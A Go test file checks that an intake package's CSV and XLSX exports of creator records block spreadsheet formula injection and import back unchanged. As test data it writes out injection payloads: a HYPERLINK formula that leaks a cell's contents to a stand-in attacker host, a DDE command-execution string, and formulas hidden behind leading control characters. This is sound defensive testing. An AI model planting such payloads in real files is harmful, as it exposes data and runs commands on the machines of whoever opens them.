package intake_test

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"github.com/rapport-dev/rapport/intake"
	"github.com/rapport-dev/rapport/partnership"
	"github.com/rapport-dev/rapport/partnership/identity"
)

// What strangers wrote is opened by the brand in a spreadsheet: no cell of an export may run there, in whatever column, the header
// included; and what is imported again is what it was.
func TestAnExportRunsNoFormulaAndIsImportedAsItWas(t *testing.T) {
	t.Parallel()
	for _, start := range []string{"=", "+", "-", "@"} {
		evil := start + `HYPERLINK("https://evil.example?x="&A1,"open")`
		was := partnership.Creator{ // niches are kept in lower case
			Handle: "ada.scents", Name: evil, Email: "ada@mail.example", Platform: "instagram", Followers: 9000, EngagementRate: 4.2, Niche: strings.ToLower(evil), Country: "US",
			Notes: evil, Extra: map[string]string{"agent": evil, start + "cmd|' /c calc'!a0": evil},
		}
		text, err := intake.WriteCreators("creators.csv", []partnership.Creator{was})
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(text, []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if strings.IndexAny(cell, "=+-@\t\r") == 0 {
					t.Errorf("a cell begins a formula: %q", cell)
				}
			}
		}
		again, faults, _ := intake.ParseCreators("creators.csv", bytes.NewReader(text))
		if len(faults) > 0 || len(again) != 1 {
			t.Fatalf("it is not imported again: %v", faults)
		}
		again[0].ID = was.ID
		if diff := cmp.Diff(was, again[0]); diff != "" {
			t.Errorf("imported again it is another one (-was +is):\n%s", diff)
		}
	}
}

// texts are words as strangers write them: formulas, marks, quotes, separators, letters of every script.
func texts(t *rapid.T, name string) string {
	word := rapid.OneOf(
		rapid.SampledFrom([]string{"=cmd", "'=cmd", "''=x", "-fern.attic-", "+Fern", "@x", "'", "''", "O'Neill", "007", "1,5", "3-4", "TRUE", "#REF", "a;b", "a,b", `say "hi"`, "a|b", "_x0041_", "Zoë", "фёрн", "コハル", "می\u200cخواهم", "2026-03-04", "sep=;", "{}", "<b>", "%"}),
		rapid.StringMatching(`[ -~äöüßéçñøŁğ]{1,12}`), rapid.StringN(1, 8, 40),
	)
	clean, _ := identity.CleanText(strings.Join(rapid.SliceOfN(word, 1, 3).Draw(t, name), " "))
	return clean
}

// What was exported imports and is the same, as CSV and as a workbook.
func TestAnExportComesBackAsItWas(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		filled := func(name string) string {
			if text := texts(t, name); text != "" && !strings.HasPrefix(text, "#") { // "#REF!" is a spreadsheet's error
				return text
			}
			return "-"
		}
		var was []partnership.Creator
		for i := range rapid.IntRange(1, 4).Draw(t, "creators") {
			c := partnership.Creator{
				Handle: rapid.SampledFrom([]string{"fern", "-fern.attic-", "_x_", "...", "007", "фёрн", "1e5"}).Draw(t, "handle") + strconv.Itoa(i),
				Name:   filled("name"), Email: "a" + strconv.Itoa(i) + rapid.SampledFrom([]string{"", "+shop", "-", "=b", "'c"}).Draw(t, "local") + "@mail.example", Platform: "blog",
				Followers:      rapid.IntRange(0, 2_000_000_000).Draw(t, "followers"),
				EngagementRate: float64(rapid.IntRange(0, 100_000).Draw(t, "rate")) / 1000, AudienceMatch: float64(rapid.IntRange(0, 10_000).Draw(t, "match")) / 100,
				Niche: strings.ToLower(filled("niche")), Country: rapid.SampledFrom([]string{"", "US", "GB", "NA"}).Draw(t, "country"),
				Timezone: rapid.SampledFrom([]string{"", "Europe/Berlin"}).Draw(t, "zone"), PastCustomer: rapid.Bool().Draw(t, "customer"),
				Notes: strings.TrimSpace(texts(t, "notes") + rapid.SampledFrom([]string{"", "\n=1+1", "\nmore\n\n'"}).Draw(t, "more")),
			}
			if name := strings.ToLower(filled("column")); rapid.Bool().Draw(t, "further") && !strings.Contains(header, name) {
				c.Extra = map[string]string{name: filled("value")}
			}
			was = append(was, c)
		}
		for _, file := range []string{"creators.csv", "creators.XLSX"} {
			written, err := intake.WriteCreators(file, was)
			if err != nil {
				t.Fatal(err)
			}
			again, faults, _ := intake.ParseCreators(file, bytes.NewReader(written))
			if diff := cmp.Diff(was, again); diff != "" || len(faults) > 0 {
				t.Fatalf("%s comes back as another one: %v\n%s", file, faults, diff)
			}
		}
	})
}

// A template is understood as it stands, and says what is wanted.
func TestATemplateNamesTheColumns(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"creators.csv", "creators.xlsx"} {
		file, err := intake.Template(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, said := read(name, string(file)); said != name+":1: no creators; a line for each is wanted after the header\n" {
			t.Errorf("%s: %s", name, said)
		}
	}
	file, err := intake.Template("creators.xlsx")
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	if notes, err := f.GetComments("Creators"); err != nil || len(notes) != 14 {
		t.Errorf("%d headings say what is wanted, %v", len(notes), err)
	}
}

// Of old data: an import takes no control characters any more, and blanks at the start count for none.
func TestNoBlankHidesAFormulaInAnExport(t *testing.T) {
	t.Parallel()
	for _, start := range []string{"\t=", "\r=", "\t", "\r\n="} {
		text, err := intake.WriteCreators("creators.csv", []partnership.Creator{{Handle: "ada.scents", Name: start + "1+1", Notes: start + "1+1"}})
		if err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(string(text), "'"+start[:1]); n != 2 {
			t.Errorf("%q is marked in %d of 2 cells: %q", start, n, text)
		}
	}
}
